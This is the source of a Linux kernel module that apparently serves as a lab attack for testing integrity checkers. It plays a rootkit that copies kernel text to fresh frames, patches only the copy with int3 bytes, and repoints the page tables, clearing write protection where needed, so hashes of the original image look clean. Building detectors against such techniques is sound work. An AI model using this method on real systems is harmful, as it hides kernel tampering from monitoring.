// SPDX-License-Identifier: GPL-2.0
/* Lab attack: move kernel text to fresh frames. The rootkit this plays copies
 * the kernel's text into newly allocated frames, writes its patch (here a run
 * of int3) into the copy only, and points the kernel's own page-table entries
 * for its text at the copies. The original frames are left untouched, so a
 * checker that hashes the image where it was loaded sees a clean kernel while
 * the CPU executes something else.
 *
 * scope=whole   every 2 MiB and 4 KiB leaf mapping text_start..text_end moves
 * scope=page4k  only the 4 KiB page holding `target` moves (a 2 MiB leaf is
 *               replaced by a new PTE table that maps the original frames but
 *               for that one page)
 * scope=page2m  only the 2 MiB region holding `target` moves
 *
 * The copies stay allocated when the module is unloaded: the kernel runs
 * on them from now on. The kernel's own text patching (static keys, tracepoints,
 * ftrace) still writes to the original frames and then BUGs in __text_poke when
 * it reads the copy back, so a test patches no kernel text after this attack. */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/slab.h>
#include <linux/smp.h>
#include <linux/stop_machine.h>
#include <linux/string.h>
#include <asm/pgtable.h>
#include <asm/tlbflush.h>
#include "vigil_lab.h"

static unsigned long target;
module_param(target, ulong, 0400);
MODULE_PARM_DESC(target, "function whose copy gets the int3 run, from /proc/kallsyms");
static char *scope = "whole";
module_param(scope, charp, 0400);
MODULE_PARM_DESC(scope, "what moves: whole (all text), page4k or page2m (around target)");
/* kallsyms_lookup_name is not exported since 5.7, so the caller resolves the
 * bounds of the text from /proc/kallsyms, as it does target. */
static unsigned long text_start;
module_param(text_start, ulong, 0400);
MODULE_PARM_DESC(text_start, "address of _stext");
static unsigned long text_end;
module_param(text_end, ulong, 0400);
MODULE_PARM_DESC(text_end, "address of _etext");

#define LAB_INT3_RUN 8
#define LAB_MAX_OPS 2048
#define LAB_PTRS 512

/* A range of text to duplicate into its new frames. */
struct lab_copy {
	unsigned long va;
	unsigned long len;
	phys_addr_t from, to;
};

/* A page-table entry to repoint, with whether its table page is writable
 * through the direct map (decided before interrupts go off). */
struct lab_write {
	u64 *entry;
	u64 val;
	bool writable;
};

/* Frames allocated for the attack, freed only if it is abandoned before the
 * page tables change. */
struct lab_alloc {
	struct page *page;
	unsigned int order;
};

static struct lab_plan {
	struct lab_copy *copies;
	struct lab_write *writes;
	struct lab_alloc *allocs;
	unsigned int ncopies, nwrites, nallocs;
	unsigned int n2m, n4k, ntables;
	/* What the page holding target was mapped by, and where it moves. */
	int target_level;
	phys_addr_t target_old, target_new;
} plan;

static bool lab_is_leaf(u64 v, int level)
{
	return level == 1 || ((level == 2 || level == 3) && (v & _PAGE_PSE));
}

/* The entry mapping va at level `stop` (1 = PTE, 2 = PMD), or the leaf above
 * it if the walk meets one first; *level tells which. The walk starts at this
 * CPU's CR3: the kernel half of every page table shares the tables below the
 * top level, so what changes here changes for every process. */
static u64 *lab_walk(unsigned long va, int stop, int *level)
{
	u64 *table = phys_to_virt(read_cr3_pa());
	int lvl = pgtable_l5_enabled() ? 5 : 4;

	for (;; lvl--) {
		u64 *e = table + ((va >> (PAGE_SHIFT + 9 * (lvl - 1))) & (LAB_PTRS - 1));
		u64 v = READ_ONCE(*e);

		if (!(v & _PAGE_PRESENT))
			return NULL;
		if (lvl == stop || lab_is_leaf(v, lvl)) {
			*level = lvl;
			return e;
		}
		table = phys_to_virt(v & PTE_PFN_MASK);
	}
}

/* The address bits of a leaf: at the PMD level bit 12 is PAT, not address. */
static u64 lab_addr_mask(int level)
{
	return level == 1 ? PTE_PFN_MASK : (PTE_PFN_MASK & PMD_MASK);
}

static bool lab_in_text(unsigned long va, unsigned long len)
{
	if (!text_end)
		return true;
	return va + len > text_start && va < text_end;
}

/* Page tables may live in pages that the direct map has read-only (some
 * hardened kernels do that); such a write goes around WP, as a rootkit would. */
static bool lab_writable(void *p)
{
	unsigned int level;
	pte_t *pte = lookup_address((unsigned long)p, &level);

	return pte && (pte_flags(*pte) & _PAGE_RW);
}

static int lab_frames(unsigned int order, phys_addr_t *phys)
{
	struct page *page;

	if (plan.nallocs == LAB_MAX_OPS)
		return -E2BIG;
	/* Buddy blocks are aligned to their order, so an order-9 block is a
	 * 2 MiB-aligned frame that a PMD leaf can point at. */
	page = alloc_pages(GFP_KERNEL | __GFP_NOWARN, order);
	if (!page)
		return -ENOMEM;
	plan.allocs[plan.nallocs++] = (struct lab_alloc){ page, order };
	*phys = page_to_phys(page);
	return 0;
}

static int lab_add_copy(unsigned long va, unsigned long len, phys_addr_t from,
			phys_addr_t to)
{
	if (plan.ncopies == LAB_MAX_OPS)
		return -E2BIG;
	plan.copies[plan.ncopies++] = (struct lab_copy){ va, len, from, to };
	if (target >= va && target < va + len) {
		unsigned long off = (target & PAGE_MASK) - va;

		plan.target_old = from + off;
		plan.target_new = to + off;
	}
	if (len == PMD_SIZE)
		plan.n2m++;
	else
		plan.n4k++;
	return 0;
}

static int lab_add_write(u64 *entry, u64 val)
{
	if (plan.nwrites == LAB_MAX_OPS)
		return -E2BIG;
	plan.writes[plan.nwrites++] = (struct lab_write){ entry, val, lab_writable(entry) };
	return 0;
}

/* Moves one leaf (2 MiB at the PMD level, 4 KiB at the PTE level) to a fresh
 * copy of its frame(s). */
static int lab_move_leaf(u64 *entry, int level, unsigned long va)
{
	u64 v = READ_ONCE(*entry);
	u64 mask = lab_addr_mask(level);
	unsigned long len = level == 1 ? PAGE_SIZE : PMD_SIZE;
	phys_addr_t to;
	int err;

	err = lab_frames(level == 1 ? 0 : PMD_SHIFT - PAGE_SHIFT, &to);
	if (err)
		return err;
	err = lab_add_copy(va, len, v & mask, to);
	if (err)
		return err;
	return lab_add_write(entry, (v & ~mask) | to);
}

/* Moves every text page of a 4 KiB-mapped 2 MiB region into one order-9
 * block, each page at its own offset, and repoints its PTE there. */
static int lab_move_ptes_to_block(u64 *pmd, unsigned long base)
{
	u64 *ptes = phys_to_virt(READ_ONCE(*pmd) & PTE_PFN_MASK);
	phys_addr_t block;
	int i, err;

	err = lab_frames(PMD_SHIFT - PAGE_SHIFT, &block);
	if (err)
		return err;
	for (i = 0; i < LAB_PTRS; i++) {
		unsigned long va = base + i * PAGE_SIZE;
		u64 v = READ_ONCE(ptes[i]);
		phys_addr_t to = block + i * PAGE_SIZE;

		if (!(v & _PAGE_PRESENT) || !lab_in_text(va, PAGE_SIZE))
			continue;
		err = lab_add_copy(va, PAGE_SIZE, v & PTE_PFN_MASK, to);
		if (!err)
			err = lab_add_write(&ptes[i], (v & ~PTE_PFN_MASK) | to);
		if (err)
			return err;
	}
	return 0;
}

/* Moves only the page holding target out of a 2 MiB leaf: a new PTE table
 * maps the 512 original frames with the leaf's permissions, but for that one
 * page, and the PMD is pointed at the table. Bit 7 is PSE in a PMD and PAT in
 * a PTE, and a PMD leaf keeps PAT in bit 12. */
static int lab_split_leaf(u64 *pmd, unsigned long base)
{
	u64 v = READ_ONCE(*pmd);
	phys_addr_t frames = v & lab_addr_mask(2);
	u64 flags = (v & ~PTE_PFN_MASK) & ~_PAGE_PSE;
	unsigned int idx = (target - base) >> PAGE_SHIFT;
	phys_addr_t table, copy;
	u64 *ptes;
	int i, err;

	if (v & _PAGE_PAT_LARGE)
		flags |= _PAGE_PAT;
	err = lab_frames(0, &table);
	if (!err)
		err = lab_frames(0, &copy);
	if (err)
		return err;
	err = lab_add_copy(base + idx * PAGE_SIZE, PAGE_SIZE, frames + idx * PAGE_SIZE, copy);
	if (err)
		return err;
	/* The table is not live until the PMD points at it: fill it now. */
	ptes = phys_to_virt(table);
	for (i = 0; i < LAB_PTRS; i++)
		ptes[i] = (i == idx ? copy : frames + i * PAGE_SIZE) | flags;
	plan.ntables++;
	/* The kernel's own flags for a table of its own: present, writable,
	 * accessed, dirty; the leaves decide the permissions. */
	return lab_add_write(pmd, table | _KERNPG_TABLE);
}

static int lab_plan_whole(void)
{
	unsigned long va;
	int level, i, err;

	if (!text_start || text_end <= text_start)
		return -EINVAL;
	for (va = text_start & PMD_MASK; va < text_end; va += PMD_SIZE) {
		u64 *pmd = lab_walk(va, 2, &level);
		u64 *ptes;

		if (!pmd) {
			pr_err("vigil-lab: remap: text at %px is not mapped\n", (void *)va);
			return -EFAULT;
		}
		if (level != 2) {
			pr_err("vigil-lab: remap: text at %px is in a 1 GiB leaf\n", (void *)va);
			return -EOPNOTSUPP;
		}
		if (lab_is_leaf(READ_ONCE(*pmd), 2)) {
			err = lab_move_leaf(pmd, 2, va);
			if (err)
				return err;
			continue;
		}
		ptes = phys_to_virt(READ_ONCE(*pmd) & PTE_PFN_MASK);
		for (i = 0; i < LAB_PTRS; i++) {
			unsigned long pva = va + i * PAGE_SIZE;

			if (!(READ_ONCE(ptes[i]) & _PAGE_PRESENT) ||
			    !lab_in_text(pva, PAGE_SIZE))
				continue;
			err = lab_move_leaf(&ptes[i], 1, pva);
			if (err)
				return err;
		}
	}
	return 0;
}

static int lab_plan_around_target(bool whole_region)
{
	int level;
	u64 *e = lab_walk(target, whole_region ? 2 : 1, &level);

	if (!e) {
		pr_err("vigil-lab: remap: %px is not mapped\n", (void *)target);
		return -EFAULT;
	}
	if (level == 3) {
		pr_err("vigil-lab: remap: %px is in a 1 GiB leaf\n", (void *)target);
		return -EOPNOTSUPP;
	}
	if (whole_region) {
		if (lab_is_leaf(READ_ONCE(*e), 2))
			return lab_move_leaf(e, 2, target & PMD_MASK);
		return lab_move_ptes_to_block(e, target & PMD_MASK);
	}
	if (level == 1)
		return lab_move_leaf(e, 1, target & PAGE_MASK);
	return lab_split_leaf(e, target & PMD_MASK);
}

static u8 *lab_copy_of(unsigned long va)
{
	unsigned int i;

	for (i = 0; i < plan.ncopies; i++) {
		struct lab_copy *c = &plan.copies[i];

		if (va >= c->va && va < c->va + c->len)
			return (u8 *)phys_to_virt(c->to) + (va - c->va);
	}
	return NULL;
}

/* Runs with every other CPU held in stop_machine, so that no text changes
 * between the copy and the switch. */
static int lab_apply(void *unused)
{
	unsigned int i;

	for (i = 0; i < plan.ncopies; i++) {
		struct lab_copy *c = &plan.copies[i];

		memcpy(phys_to_virt(c->to), phys_to_virt(c->from), c->len);
	}
	for (i = 0; i < LAB_INT3_RUN; i++)
		*lab_copy_of(target + i) = 0xcc;
	for (i = 0; i < plan.nwrites; i++) {
		struct lab_write *w = &plan.writes[i];

		if (w->writable)
			WRITE_ONCE(*w->entry, w->val);
		else
			LAB_WITH_WP_CLEARED(WRITE_ONCE(*w->entry, w->val));
	}
	__flush_tlb_all();
	return 0;
}

/* The text entries are global: only a full flush, global entries and paging
 * structure caches included, drops them, and every CPU needs one. */
static void lab_flush(void *unused)
{
	__flush_tlb_all();
}

static void lab_free_plan(bool keep_frames)
{
	unsigned int i;

	for (i = 0; !keep_frames && i < plan.nallocs; i++)
		__free_pages(plan.allocs[i].page, plan.allocs[i].order);
	kvfree(plan.copies);
	kvfree(plan.writes);
	kvfree(plan.allocs);
}

static const char *lab_level_name(int level)
{
	return level == 1 ? "4K" : "2M";
}

static int __init remap_init(void)
{
	int err, level;

	if (!target)
		return -EINVAL;
	if (!lab_walk(target, 1, &level)) {
		pr_err("vigil-lab: remap: target %px is not mapped\n", (void *)target);
		return -EFAULT;
	}
	plan.target_level = level;
	plan.copies = kvcalloc(LAB_MAX_OPS, sizeof(*plan.copies), GFP_KERNEL);
	plan.writes = kvcalloc(LAB_MAX_OPS, sizeof(*plan.writes), GFP_KERNEL);
	plan.allocs = kvcalloc(LAB_MAX_OPS, sizeof(*plan.allocs), GFP_KERNEL);
	if (!plan.copies || !plan.writes || !plan.allocs) {
		lab_free_plan(false);
		return -ENOMEM;
	}
	if (!strcmp(scope, "whole"))
		err = lab_plan_whole();
	else if (!strcmp(scope, "page4k"))
		err = lab_plan_around_target(false);
	else if (!strcmp(scope, "page2m"))
		err = lab_plan_around_target(true);
	else
		err = -EINVAL;
	/* The int3 run goes into a copy only: it must lie in what moves. */
	if (!err && (!lab_copy_of(target) || !lab_copy_of(target + LAB_INT3_RUN - 1))) {
		pr_err("vigil-lab: remap: %px is not in the moved text\n", (void *)target);
		err = -EINVAL;
	}
	if (err) {
		lab_free_plan(false);
		return err;
	}
	stop_machine(lab_apply, NULL, NULL);
	on_each_cpu(lab_flush, NULL, 1);
	pr_info("vigil-lab: remap %s: moved %u 2M and %u 4K leaves (%u new PTE table(s)); int3 x%d at %px; its page (was %s-mapped) %pa -> %pa\n",
		scope, plan.n2m, plan.n4k, plan.ntables, LAB_INT3_RUN, (void *)target,
		lab_level_name(plan.target_level), &plan.target_old, &plan.target_new);
	/* The kernel now runs on the new frames: they are never given back. */
	lab_free_plan(true);
	return 0;
}

/* Unloading leaves the copies in place (they are the kernel's text now), so
 * that the attack can be made again, on another page, in the same guest. */
static void __exit remap_exit(void)
{
}

module_init(remap_init);
module_exit(remap_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vigil lab attack: move kernel text to fresh frames");
